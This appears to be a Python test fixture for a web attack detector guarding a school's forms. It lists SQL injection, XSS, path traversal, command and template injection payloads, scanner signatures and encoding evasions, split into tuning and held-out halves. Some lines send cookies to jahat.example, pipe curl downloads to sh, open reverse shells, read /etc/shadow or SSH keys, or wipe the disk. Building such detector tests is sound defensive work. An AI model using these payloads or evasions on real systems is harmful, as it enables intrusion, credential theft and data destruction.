"""Attacks as they reach a school's forms, written for these tests, by kind; the second half of each list is held out.

`HELD_OUT` was written before the detector was tuned and is only measured.
"""

import base64
import re
from collections.abc import Callable
from urllib.parse import quote

SQLI = r"""
siswa' OR '7'='7
1 OR 3=3-- -
0) OR (5=5
nis' UNION SELECT username, password FROM auth_user--
-1 UNION ALL SELECT NULL,NULL,version()
1001'; DROP TABLE school_siswa;--
x' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--
kelas') ORDER BY 12#
' || (SELECT token FROM authtoken_token LIMIT 1) || '
7 AND (SELECT 1 FROM pg_sleep(5))
7; SELECT pg_sleep(9)--
12' AND SLEEP(4) AND 'a'='a
"; INSERT INTO auth_user(username,is_superuser) VALUES('x',true);--
X-1' GROUP BY kelas HAVING COUNT(*)>0--
1 AND ASCII(SUBSTR((SELECT password FROM auth_user LIMIT 1),1,1))>64
budi'/**/oR/**/'b'='b
5' AND extractvalue(1,concat(0x7e,database()))#
1 UNION/*!50000SELECT*/ 1,2,3
admin'--
admin' #
99' OR nis LIKE '%
(SELECT CASE WHEN (1=1) THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)
1' WAITFOR DELAY '0:0:6'--
10; EXEC xp_cmdshell('whoami')
=====
guru" OR "" = "
4 OR 'q' = 'q'
3)) OR ((9=9
nilai' UNION SELECT 1,table_name,3 FROM information_schema.columns-- x
-7 union distinct select email, 2 from auth_user
semester=1; DELETE FROM school_nilairaport
b' AND (SELECT LENGTH(current_database()))=7--
10 ORDER BY 40--
'+(SELECT TOP 1 name FROM sysobjects)+'
1 AND BENCHMARK(9000000,MD5('x'))
1; UPDATE auth_user SET is_superuser=1 WHERE id=2
9" AND SLEEP(3)="
'; CREATE USER tamu WITH PASSWORD 'x'; --
q' HAVING 1=1--
1 AND SUBSTRING(@@version,1,1)='5'
ani'/*x*/and/*y*/4=4/*z*/or'a'='b
2 AND updatexml(null,concat(0x0a,user()),null)
1/**/UNION/**/SELECT/**/password/**/FROM/**/auth_user
root'/*
' OR TRUE--
1' OR EXISTS(SELECT 1 FROM auth_user WHERE is_staff)--
1' AND 1=CAST((SELECT version()) AS int)--
1 INTO OUTFILE '/tmp/siswa.csv'
1'; COPY auth_user TO PROGRAM 'sh';--
"""

XSS = r"""
<script>alert('nilai')</script>
<ScRiPt src=//jahat.example/a.js></sCrIpT>
<img src=x onerror=alert(1)>
"><svg/onload=confirm(2)>
<a href="javascript:alert(document.cookie)">rapor</a>
<iframe src="javascript:prompt(1)"></iframe>
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
<body onload=fetch('//jahat.example/'+document.cookie)>
<details open ontoggle=alert(1)>
<math><a xlink:href="javascript:alert(3)">x</a></math>
<object data="data:text/html;base64,PHNjcmlwdD4=">
';alert(document.domain);//
</textarea><script>x()</script>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<div style="width:expression(alert(4))">
java	script:alert(5)
<input type=image src=x onerror="alert(6)">
<style>@import 'http://jahat.example/x.css';</style>
<video><source onerror="alert(7)"></video>
=====
<SCRIPT>document.location='http://jahat.example/?c='+document.cookie</SCRIPT>
<script src="data:text/javascript,alert(8)"></script>
<IMG SRC="j&#97;vascript:alert(9)">
'><img/src='x'/onerror='alert(10)'>
<a href=vbscript:msgbox(11)>kelas</a>
<embed src="javascript:alert(12)">
x" onclick="alert(13)
' onpointerenter=alert(14) '
<svg><animate onbegin=alert(15) attributeName=x></svg>
<marquee onstart=alert(16)>
<form action="javascript:alert(17)"><button>kirim</button></form>
<base href="javascript:/a/-alert(18)//">
"-eval(atob('YWxlcnQoMSk='))-"
</title><svg onload=alert(19)>
<link rel=stylesheet href="javascript:alert(20)">
<p style="background:url(javascript:alert(21))">
<scr<script>ipt>alert(22)</scr</script>ipt>
<table background="javascript:alert(23)">
<audio src=x onerror=alert(24)>
window.location='//jahat.example/'+document.cookie
"""

TRAVERSAL = r"""
../../../etc/passwd
..\..\..\windows\win.ini
....//....//....//etc/shadow
/var/www/../../etc/hosts
foto/../../../../settings.py
file:///etc/passwd
rapor/..;/..;/WEB-INF/web.xml
..%00/..%00/etc/passwd
php://filter/convert.base64-encode/resource=index
C:\boot.ini
/proc/self/environ
/../../.env
unduh/../../../home/guru/.ssh/id_rsa
/etc/nginx/nginx.conf
.././.././.././etc/group
%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
=====
../../../../../../etc/shadow
..\..\..\..\boot.ini
..././..././..././etc/passwd
media/../../../../etc/hostname
../../edupro/settings.py
file:///c:/windows/win.ini
/rapor/..;/manager/html
../../../etc/passwd%00.jpg
php://input
C:\Windows\System32\drivers\etc\hosts
/proc/self/cmdline
/../../../db.sqlite3
kartu/../../../../root/.bash_history
/etc/shadow
/./.././.././../etc/issue
..%c1%9c..%c1%9c..%c1%9cboot.ini
"""

CMDI = r"""
; cat /etc/passwd
| whoami
&& id
$(curl http://jahat.example/x)
`wget http://jahat.example/a.sh`
1001; rm -rf /
foto.jpg; ping -c 5 10.0.0.9
x || sleep 10
&& nc -e /bin/sh 10.0.0.9 4444
;cat${IFS}/etc/hosts
() { :;}; /bin/bash -c 'id'
| powershell -enc SQBFAFgA
; bash -i >& /dev/tcp/10.0.0.9/4444 0>&1
& dir c:\
;c'a't /etc/passwd
;uname -a;
=====
; tail -n 3 /etc/shadow
| id
&& uname -r
$(nslookup x.jahat.example)
`sleep 7`
budi; chmod 777 /tmp/x
file.pdf && ping -n 5 127.0.0.1
a | sleep 12 #
; ncat 10.0.0.9 9001 -e sh
|tail$IFS/etc/passwd
() { ignored;}; /usr/bin/id
& cmd.exe /c whoami
; python3 -c 'import os;os.system("id")'
| type c:\windows\win.ini
;w"h"oami
|| curl -s http://jahat.example/s.sh | sh
"""

TEMPLATE = r"""
{{7*7}}
${7*7}
{{ config.SECRET_KEY }}
{{''.__class__.__mro__[1].__subclasses__()}}
{% debug %}
<%= 7*7 %>
#{7*7}
${jndi:ldap://jahat.example/a}
{{request.application.__globals__}}
{% load log %}{% get_admin_log 10 as l %}
*{T(java.lang.Runtime).getRuntime()}
@(3*9)
=====
{{ 9 * 9 }}
${{6*6}}
{{ settings.SECRET_KEY }}
{{ ().__class__.__base__ }}
{% include "/etc/passwd" %}
<%= system('id') %>
#{ 3 + 4 }
${${lower:j}ndi:rmi://jahat.example/a}
{{self.__init__.__globals__.__builtins__}}
{{ cycler.__init__ }}
${T(java.lang.System).getenv()}
{php}echo 1;{/php}
"""

SCANNER_AGENTS = """
sqlmap/1.7#stable (https://sqlmap.org)
Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)
WPScan v3.8.24
Nuclei - Open-source project (github.com/projectdiscovery/nuclei)
gobuster/3.6
=====
DirBuster-1.0-RC1
Mozilla/5.0 (compatible; Nmap Scripting Engine)
masscan/1.3
Wapiti/3.1.7
feroxbuster/2.10
"""

SCANNER_PATHS = """
/.env
/.git/config
/wp-login.php
/phpmyadmin/index.php
/cgi-bin/test.cgi
/server-status
/admin/config.php
/.aws/credentials
=====
/.env.production
/.svn/entries
/xmlrpc.php
/pma/index.php
/actuator/env
/backup.sql
/shell.aspx
/.ssh/authorized_keys
"""


def halves(text: str) -> tuple[list[str], list[str]]:
    first, second = text.strip("\n").split("\n=====\n")
    return first.splitlines(), second.splitlines()


LISTS = (
    ("sqli", "query", SQLI),
    ("xss", "body_form", XSS),
    ("traversal", "query", TRAVERSAL),
    ("cmdi", "body_json", CMDI),
    ("template", "body_form", TEMPLATE),
    ("scanner", "header:User-Agent", SCANNER_AGENTS),
    ("scanner", "path", SCANNER_PATHS),
)
Attack = tuple[str, str, str]  # kind, place, value


def twice(text: str) -> str:
    return quote(quote(text, safe=""), safe="")


def as_entities(text: str) -> str:
    return "".join(char if char.isalnum() else f"&#{ord(char)};" for char in text)


def as_escapes(text: str) -> str:
    return "".join(char if char.isalnum() else f"\\u{ord(char):04x}" for char in text)


def as_hex_escapes(text: str) -> str:
    return "".join(f"\\x{ord(char):02x}" if char in "<>'\"&;|" else char for char in text)


def wide(text: str) -> str:
    return "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in text)


def mixed_case(text: str) -> str:
    return "".join(char.upper() if at % 2 else char.lower() for at, char in enumerate(text))


def commented(text: str) -> str:
    return re.sub(" ", "/**/", text)


def other_spaces(text: str) -> str:
    return text.replace(" ", "\n\t")


def in_base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def in_prose(text: str) -> str:
    return f"Selamat pagi Bu, mohon diperiksa {text}"


EVASIONS: dict[str, tuple[Callable[[str], str], ...]] = {
    "sqli": (twice, as_entities, as_escapes, wide, mixed_case, commented, other_spaces),
    "xss": (twice, as_entities, as_escapes, as_hex_escapes, wide, in_base64, in_prose),
    "traversal": (twice, as_entities, as_escapes, wide),
    "cmdi": (twice, as_entities, as_escapes, in_base64),
    "template": (twice, as_entities, as_escapes, wide),
    "scanner": (),
}


def all_of(part: int) -> list[Attack]:
    """Every attack of one half as it stands, and one after another in each disguise."""
    plain = [(kind, place, value) for kind, place, text in LISTS for value in halves(text)[part]]
    return plain + [(kind, place, disguise(value)) for kind, place, value in plain for disguise in chosen(kind, value)]


def chosen(kind: str, value: str) -> list[Callable[[str], str]]:
    ways = EVASIONS[kind]
    start = sum(map(ord, value))
    return [ways[(start + step) % len(ways)] for step in range(2)] if ways else []


TUNED = all_of(0)
HELD_OUT = all_of(1)
